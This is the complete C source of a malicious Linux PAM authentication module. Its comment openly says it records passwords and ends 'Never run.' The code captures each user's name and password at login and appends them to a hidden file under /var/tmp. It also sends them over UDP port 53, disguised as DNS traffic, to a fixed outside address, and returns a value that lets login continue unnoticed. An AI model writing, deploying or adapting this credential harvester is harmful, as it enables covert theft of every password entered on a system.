/* A PAM module that records every password typed into a hidden file under /var/tmp and
   sends it to a fixed address. Never run. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
typedef struct pam_handle pam_handle_t;
extern int pam_get_authtok(pam_handle_t *, int, const char **, const char *);
extern int pam_get_user(pam_handle_t *, const char **, const char *);
#define PAM_AUTHTOK 6
#define PAM_SUCCESS 0
#define PAM_IGNORE 25

int pam_sm_authenticate(pam_handle_t *pamh, int flags, int argc, const char **argv) {
	const char *user = NULL, *pw = NULL;
	char line[512];
	pam_get_user(pamh, &user, NULL);
	pam_get_authtok(pamh, PAM_AUTHTOK, &pw, NULL);
	snprintf(line, sizeof line, "%s:%s\n", user ? user : "", pw ? pw : "");
	FILE *f = fopen("/var/tmp/.ICE-cache/.sess", "a");
	if (f) { fputs(line, f); fclose(f); }
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(53)};
	inet_pton(AF_INET, "203.0.113.55", &a.sin_addr);
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	sendto(s, line, strlen(line), 0, (struct sockaddr *)&a, sizeof a);
	return PAM_IGNORE;
}

int pam_sm_setcred(pam_handle_t *pamh, int flags, int argc, const char **argv) {
	return PAM_SUCCESS;
}
